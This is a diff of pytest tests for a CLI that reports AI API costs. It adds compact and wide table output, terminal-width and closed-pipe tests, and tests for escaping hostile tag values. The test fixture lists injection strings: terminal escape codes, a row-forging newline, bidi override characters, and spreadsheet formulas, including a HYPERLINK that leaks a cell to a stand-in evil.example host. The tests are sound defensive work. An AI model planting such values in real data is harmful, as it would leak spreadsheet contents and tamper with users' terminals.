@@ -67,8 +67,8 @@ def section(out: str, title: str) -> list[list[str]]:
 # --- table ---------------------------------------------------------------------------------------------
 
 
-def test_default_table_summary_feature_model(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, err = run(capsys, *NOVEMBER)
+def test_wide_table_summary_feature_model(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = run(capsys, "--wide", *NOVEMBER)
     assert (code, err) == (0, "")
     assert out.splitlines()[0] == f"genai-cost report: {db}, 2026-11-01 00:00 to 2026-12-01 00:00 UTC"
     header = out.splitlines()[3].split()
@@ -89,11 +89,49 @@ def test_default_table_summary_feature_model(db: Path, capsys: pytest.CaptureFix
          "3.00s"],
     ]  # fmt: skip
     assert [row[0] for row in section(out, "By model")] == [CLAUDE_MODEL, GROQ_MODEL, "ft:gpt-4o-mini:acme"]
-    assert "1 calls had tokens but no known price; their cost is not included" in out
+    assert "1 call had tokens but no known price; their cost is not included" in out
+    assert "- = not reported (or nothing to average); (none) = calls without that tag" in out
+    assert "--wide" not in out.split("By model")[1]  # every column is shown already
+
+
+def test_default_table_is_compact_and_fits_the_terminal(
+    db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    compact = ["requests", "errors", "input tok", "output tok", "cached tok", "cost (USD)", "avg/call", "p95"]
+    code, out, _ = run(capsys, *NOVEMBER)  # not a terminal: the compact set, whatever its width
+    assert code == 0
+    assert re.split(r"\s{2,}", out.splitlines()[3].strip()) == compact
+    assert section(out, "Summary") == [
+        ["all calls", "7", "1 (14.3%)", "7,500", "1,450", "2,000", "$0.028000", "$0.007000", "4.00s"]
+    ]
+    assert out.rstrip().endswith(
+        "More columns (rate-limited, unpriced, sessions, avg/session, p50, p99): --wide."
+    )
+    for columns in ("80", "60", "20"):
+        monkeypatch.setenv("COLUMNS", columns)
+        code, out, _ = run(capsys, *NOVEMBER)
+        table = out.split("\n\n")[1:4]  # the three tables
+        widest = max(len(line) for part in table for line in part.splitlines())
+        assert widest <= int(columns) or columns == "20", (columns, widest)  # requests and cost always stay
+        assert "requests" in out and "cost (USD)" in out
+    assert (
+        out.splitlines()[-1].startswith("More columns (errors, rate-limited, ")
+        and "p95" in out.splitlines()[-1]
+    )
+
+
+def test_a_closed_pipe_is_not_an_error(db: Path) -> None:
+    # `genai-cost report | head -1`: the reader goes away before the report is written.
+    command = [sys.executable, "-c", _CLI, SRC, "report", "-d", str(db)]
+    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert proc.stdout is not None and proc.stderr is not None
+    proc.stdout.close()
+    err = proc.stderr.read().decode()
+    assert (proc.wait(timeout=60), err) == (0, "")
 
 
 def test_by_session_and_top(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, _ = run(capsys, "--by", "session", *NOVEMBER)
+    code, out, _ = run(capsys, "--by", "session", "--wide", *NOVEMBER)
     assert code == 0
     rows = {r[0]: r for r in section(out, "By session")}
     assert rows["s1"][7] == "$0.003000" and rows["s1"][11] == "$0.003000"  # cost per interview session
@@ -141,7 +179,68 @@ def test_csv_rows(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
     interview = rows[1]
     assert interview == {k: "" if v is None else str(v) for k, v in INTERVIEW.items()}
     code, out, _ = run(capsys, "--by", "user", "--format", "csv", "--from", "2030-01-01")
-    assert (code, out.splitlines()) == (0, [",".join(INTERVIEW)])  # header only
+    assert (code, out.splitlines()) == (0, [",".join(f'"{key}"' for key in INTERVIEW)])  # header only
+
+
+# Tag values come from the app (and through it from its users): none may act on the reader's terminal
+# or spreadsheet.
+HOSTILE = [
+    "\x1b[2J\x1b[Hscreen cleared",
+    "forged\nall calls        999  $0.000001",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading return",
+    "bidi \u202eevil\u202c",
+    "plain_feature",
+]
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> Path:
+    path = tmp_path / "hostile.db"
+    calls = [
+        Call(utc(f"2026-11-20T10:00:{i:02d}"), 0.5, "openai", "gpt-4o-mini", feature=name, usage=Usage(10, 1),
+             cost=Cost(0.001 * (i + 1)))
+        for i, name in enumerate(HOSTILE)
+    ]  # fmt: skip
+    record(str(path), calls)
+    return path
+
+
+def test_table_shows_control_characters_escaped(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature")
+    assert code == 0
+    for char in ("\x1b", "\r", "\t", "\u202e", "\u202c"):
+        assert char not in out, repr(char)
+    rows = section(out, "By feature")
+    assert len(rows) == len(HOSTILE)  # the newline forged no row
+    keys = {row[0] for row in rows}
+    assert "\\x1b[2J\\x1b[Hscreen cleared" in keys
+    assert "forged\\nall calls" in keys  # the rest of that cell follows after two spaces
+    assert "bidi \\u202eevil\\u202c" in keys and "plain_feature" in keys
+
+
+def test_csv_cells_never_start_a_formula(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature", "--format", "csv")
+    assert code == 0
+    keys = {row["key"] for row in csv.DictReader(io.StringIO(out))}
+    assert keys == {
+        "\x1b[2J\x1b[Hscreen cleared",
+        "forged\nall calls        999  $0.000001",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "'+1+1",
+        "'-1+1",
+        "'@SUM(A1:A9)",
+        "'\tleading tab",
+        "'\rleading return",
+        "bidi \u202eevil\u202c",
+        "plain_feature",
+    }
+    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature", "--format", "json")
+    assert {row["key"] for row in json.loads(out)} == set(HOSTILE)  # JSON stays exact
 
 
 def test_day_and_operation_breakdowns(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
